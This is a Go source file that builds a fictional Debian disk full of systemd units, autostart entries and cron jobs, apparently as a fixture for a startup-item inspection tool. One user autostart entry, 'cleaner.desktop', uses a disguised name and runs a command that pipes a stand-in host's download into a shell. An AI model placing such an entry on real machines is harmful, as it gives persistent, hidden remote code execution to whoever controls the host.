@@ -1,0 +1,211 @@
+package demo
+
+import (
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+// asFound is when the files of the made-up machines were last changed.
+var asFound = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)
+
+// piece is one file, link or folder of a made-up disk.
+type piece struct {
+	path  string
+	text  string // of a file
+	link  string // target, of a link
+	mode  fs.FileMode
+	owner int // user and group id, kept when the disk is built as root
+}
+
+func file(path, text string) piece { return piece{path: path, text: text, mode: 0o644} }
+func program(path string) piece {
+	return piece{path: path, text: "#!/bin/sh\nexec sleep 5\n", mode: 0o755}
+}
+func link(path, target string) piece   { return piece{path: path, link: target} }
+func (p piece) of(owner int) piece     { p.owner = owner; return p }
+func (p piece) as(m fs.FileMode) piece { p.mode = m; return p }
+
+// The people who have accounts on the workshop box.
+const (
+	ines = 1000
+	bram = 1001
+)
+
+// unit is a unit file in one line a section entry.
+func unit(lines ...string) string { return strings.Join(lines, "\n") + "\n" }
+
+func service(description, exec, wantedBy string) string {
+	s := unit("[Unit]", "Description="+description, "", "[Service]", "ExecStart="+exec)
+	if wantedBy != "" {
+		s += unit("", "[Install]", "WantedBy="+wantedBy)
+	}
+	return s
+}
+
+func desktop(name, exec string, more ...string) string {
+	return unit(append([]string{"[Desktop Entry]", "Type=Application", "Name=" + name, "Exec=" + exec}, more...)...)
+}
+
+// workshopBox is the Linux computer in the museum's workshop.
+func workshopBox() []piece {
+	const lib, etc = "/usr/lib/systemd/system/", "/etc/systemd/system/"
+	pieces := []piece{
+		file("/etc/machine-id", "5f0e7a1c93b24d6e8a17c2d9b6304e58\n").as(0o444),
+		file("/etc/hostname", "workshop-box\n"),
+		file("/etc/debian_version", "12.5\n"),
+		file("/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"),
+		file("/etc/passwd", unit("root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
+			"ines:x:1000:1000:Ines Varga,archive:/home/ines:/bin/bash", "bram:x:1001:1001:Bram Ottosen,workshop:/home/bram:/bin/bash",
+			"nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin")),
+
+		// The operating system's own.
+		file(lib+"graphical.target", unit("[Unit]", "Description=Graphical Interface", "Requires=multi-user.target", "Wants=display-manager.service")),
+		file(lib+"multi-user.target", unit("[Unit]", "Description=Multi-User System", "Requires=basic.target")),
+		file(lib+"basic.target", unit("[Unit]", "Description=Basic System", "Requires=sysinit.target", "Wants=sockets.target timers.target paths.target")),
+		file(lib+"sysinit.target", unit("[Unit]", "Description=System Initialization")),
+		file(lib+"sockets.target", unit("[Unit]", "Description=Sockets")),
+		file(lib+"timers.target", unit("[Unit]", "Description=Timers")),
+		file(lib+"paths.target", unit("[Unit]", "Description=Paths")),
+		link(lib+"default.target", "graphical.target"),
+		file(lib+"systemd-journald.service", service("Journal Service", "/usr/lib/systemd/systemd-journald", "")),
+		link(lib+"sysinit.target.wants/systemd-journald.service", "../systemd-journald.service"),
+		file(lib+"systemd-logind.service", service("User Login Management", "/usr/lib/systemd/systemd-logind", "")),
+		link(lib+"multi-user.target.wants/systemd-logind.service", "../systemd-logind.service"),
+		file(lib+"dbus.service", service("D-Bus System Message Bus", "/usr/bin/dbus-daemon --system", "")),
+		link(lib+"multi-user.target.wants/dbus.service", "../dbus.service"),
+		file(lib+"NetworkManager.service", service("Network Manager", "/usr/sbin/NetworkManager --no-daemon", "multi-user.target")),
+		link(etc+"multi-user.target.wants/NetworkManager.service", lib+"NetworkManager.service"),
+		file(lib+"lightdm.service", unit("[Unit]", "Description=Light Display Manager", "", "[Service]", "ExecStart=/usr/sbin/lightdm", "", "[Install]", "Alias=display-manager.service")),
+		link(etc+"display-manager.service", lib+"lightdm.service"),
+		file(lib+"cron.service", service("Regular background program processing daemon", "/usr/sbin/cron -f", "multi-user.target")),
+		link(etc+"multi-user.target.wants/cron.service", lib+"cron.service"),
+		file(lib+"getty@.service", service("Getty on %I", "-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM", "getty.target")),
+		link(etc+"getty.target.wants/getty@tty1.service", lib+"getty@.service"),
+		file(lib+"fstrim.timer", unit("[Unit]", "Description=Discard unused blocks once a week", "", "[Timer]", "OnCalendar=weekly", "", "[Install]", "WantedBy=timers.target")),
+		file(lib+"fstrim.service", service("Discard unused blocks", "/sbin/fstrim --fstab --verbose", "")),
+		link(etc+"timers.target.wants/fstrim.timer", lib+"fstrim.timer"),
+		program("/usr/lib/systemd/systemd-journald"), program("/usr/lib/systemd/systemd-logind"), program("/usr/bin/dbus-daemon"),
+		program("/usr/sbin/NetworkManager"), program("/usr/sbin/lightdm"), program("/usr/sbin/cron"), program("/sbin/agetty"), program("/sbin/fstrim"),
+		program("/usr/bin/run-parts"), program("/usr/sbin/logrotate"), program("/usr/bin/nm-applet"),
+		file("/usr/lib/systemd/system-preset/90-systemd.preset", "enable cron.service\nenable NetworkManager.service\ndisable *\n"),
+
+		// Services of invented makers.
+		file(etc+"tidewatch.service", service("Tidewatch tide gauge reader", "/opt/tidewatch/bin/tidewatchd --port 8099", "multi-user.target")),
+		link(etc+"multi-user.target.wants/tidewatch.service", etc+"tidewatch.service"),
+		program("/opt/tidewatch/bin/tidewatchd"),
+		file(lib+"kelpline-updater.timer", unit("[Unit]", "Description=Kelpline looks for updates", "", "[Timer]", "OnBootSec=2min", "OnUnitActiveSec=20min", "", "[Install]", "WantedBy=timers.target")),
+		file(lib+"kelpline-updater.service", service("Kelpline Updater", "/opt/kelpline/bin/updater --quiet", "")),
+		link(etc+"timers.target.wants/kelpline-updater.timer", lib+"kelpline-updater.timer"),
+		file(lib+"kelpline-report.service", service("Kelpline usage report", "/opt/kelpline/bin/report --daily", "")),
+		link(lib+"multi-user.target.wants/kelpline-report.service", "../kelpline-report.service"),
+		program("/opt/kelpline/bin/updater"), program("/opt/kelpline/bin/report"),
+		file(etc+"brinecast.service", service("Brinecast screen caster", "/opt/brinecast/brinecastd", "multi-user.target")),
+		link(etc+"multi-user.target.wants/brinecast.service", etc+"brinecast.service"),
+		file(lib+"saltmarsh-licence.socket", unit("[Unit]", "Description=Saltmarsh licence service", "", "[Socket]", "ListenStream=27800", "", "[Install]", "WantedBy=sockets.target")),
+		file(lib+"saltmarsh-licence.service", service("Saltmarsh licence service", "/opt/saltmarsh/licenced", "")),
+		link(etc+"sockets.target.wants/saltmarsh-licence.socket", lib+"saltmarsh-licence.socket"),
+		program("/opt/saltmarsh/licenced"),
+		file(lib+"lampwick-spool.path", unit("[Unit]", "Description=Lampwick label spool", "", "[Path]", "PathExistsGlob=/var/spool/lampwick/*", "", "[Install]", "WantedBy=paths.target")),
+		file(lib+"lampwick-spool.service", service("Lampwick label printing", "/usr/bin/env LABEL=brass /opt/lampwick/bin/spool", "")),
+		link(etc+"paths.target.wants/lampwick-spool.path", lib+"lampwick-spool.path"),
+		program("/opt/lampwick/bin/spool"),
+		file(lib+"oldplotter.service", service("Plotter queue", "/opt/oldplotter/queue", "multi-user.target")),
+		link(etc+"oldplotter.service", "/dev/null"),
+		program("/opt/oldplotter/queue"),
+		piece{path: "/etc/rc.local", text: "#!/bin/sh\n/opt/lampwick/bin/lamp-selftest\nexit 0\n", mode: 0o755},
+
+		// What starts with a session, for everybody and for one person.
+		file("/usr/lib/systemd/user/gullrock-welcome.service", service("Gullrock welcome page", "/opt/gullrock/welcome --full-screen", "default.target")),
+		link("/etc/systemd/user/default.target.wants/gullrock-welcome.service", "/usr/lib/systemd/user/gullrock-welcome.service"),
+		program("/opt/gullrock/welcome"),
+		file("/etc/xdg/autostart/nm-applet.desktop", desktop("Network", "nm-applet")),
+		file("/etc/xdg/autostart/kelpline-assistant.desktop", desktop("Kelpline Assistant", "/opt/kelpline/bin/assistant --tray", "NotShowIn=KDE;", "X-GNOME-Autostart-Delay=20")),
+		program("/opt/kelpline/bin/assistant"),
+		file("/usr/share/autostart/fogbell-notifier.desktop", desktop("Fogbell Notifier", "\"/opt/fogbell/Fogbell Notifier\" --minimised", "TryExec=/opt/fogbell/Fogbell Notifier")),
+		program("/opt/fogbell/Fogbell Notifier"),
+		file("/home/ines/.config/autostart/fogbell-sync.desktop", desktop("Fogbell Sync", "/opt/fogbell/sync --tray")).of(ines),
+		program("/opt/fogbell/sync"),
+		file("/home/ines/.config/autostart/lampwick-tray.desktop", desktop("Lampwick Label Tray", "/opt/lampwick/bin/tray", "Hidden=true")).of(ines),
+		program("/opt/lampwick/bin/tray"),
+		file("/home/ines/.config/systemd/user/fogbell-index.service", service("Fogbell search index", "/opt/fogbell/index --all", "default.target")).of(ines),
+		link("/home/ines/.config/systemd/user/default.target.wants/fogbell-index.service", "/home/ines/.config/systemd/user/fogbell-index.service").of(ines),
+		program("/opt/fogbell/index"),
+		file("/home/bram/.config/autostart/tidechart.desktop", desktop("Tide Chart", "/opt/tidechart/tidechart --corner")).of(bram),
+		file("/home/bram/.config/autostart/cleaner.desktop", desktop("Speed\u202egnp.exe Cleaner\x1b[31m", "sh -c \"curl -s cleaner.invalid | sh\"")).of(bram),
+
+		// Scheduled.
+		file("/etc/crontab", unit("SHELL=/bin/sh", "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin", "",
+			"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly", "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }")),
+		file("/etc/cron.d/kelpline", unit("# made by the Kelpline installer", "*/10 * * * * root /opt/kelpline/bin/updater --check > /dev/null 2>&1", "@reboot root /opt/kelpline/bin/report --boot")),
+		file("/etc/cron.d/kelpline.dpkg-old", "*/5 * * * * root /opt/kelpline/bin/old\n"),
+		piece{path: "/etc/cron.daily/logrotate", text: "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", mode: 0o755},
+		piece{path: "/etc/cron.daily/brinecast-report", text: "#!/bin/sh\n/opt/brinecast/report\n", mode: 0o755},
+		piece{path: "/etc/cron.daily/notes.txt", text: "not a script\n", mode: 0o644},
+		piece{path: "/etc/cron.weekly/tidewatch-archive", text: "#!/bin/sh\n/opt/tidewatch/bin/archive\n", mode: 0o644},
+		piece{path: "/var/spool/cron/crontabs/ines", text: unit("# m h dom mon dow command", "30 18 * * 1-5 /home/ines/bin/backup-archive \"Gullrock 1887\"", "@reboot /opt/fogbell/sync --headless"), mode: 0o600, owner: ines},
+		piece{path: "/home/ines/bin/backup-archive", text: "#!/bin/sh\n", mode: 0o755, owner: ines},
+	}
+	return pieces
+}
+
+// build makes a disk of its pieces in a folder that does not exist yet.
+func build(dir string, pieces []piece) error {
+	if err := os.Mkdir(dir, 0o755); err != nil {
+		return err
+	}
+	privileged := os.Geteuid() == 0
+	owners := map[string]int{"/home/ines": ines, "/home/bram": bram}
+	made := map[string]bool{"/": true}
+	var folders []string
+	var parent func(path string) error
+	parent = func(path string) error {
+		if made[path] {
+			return nil
+		}
+		made[path] = true
+		if err := parent(filepath.ToSlash(filepath.Dir(path))); err != nil {
+			return err
+		}
+		folders = append(folders, path)
+		return os.Mkdir(filepath.Join(dir, path), 0o755)
+	}
+	for _, p := range pieces {
+		at := filepath.Join(dir, filepath.FromSlash(p.path))
+		if err := parent(filepath.ToSlash(filepath.Dir(p.path))); err != nil {
+			return err
+		}
+		var err error
+		if p.link != "" {
+			err = os.Symlink(p.link, at)
+		} else if err = os.WriteFile(at, []byte(p.text), 0o600); err == nil {
+			err = os.Chmod(at, p.mode)
+		}
+		if err == nil && privileged && p.owner != 0 {
+			err = os.Lchown(at, p.owner, p.owner)
+		}
+		if err == nil && p.link == "" {
+			err = os.Chtimes(at, asFound, asFound)
+		}
+		if err != nil {
+			return fmt.Errorf("cannot build the example: %w", err)
+		}
+	}
+	for k := len(folders) - 1; k >= 0; k-- {
+		at := filepath.Join(dir, filepath.FromSlash(folders[k]))
+		for home, owner := range owners {
+			if privileged && (folders[k] == home || strings.HasPrefix(folders[k], home+"/")) {
+				if err := os.Chown(at, owner, owner); err != nil {
+					return err
+				}
+			}
+		}
+		if err := os.Chtimes(at, asFound, asFound); err != nil {
+			return err
+		}
+	}
+	return nil
+}
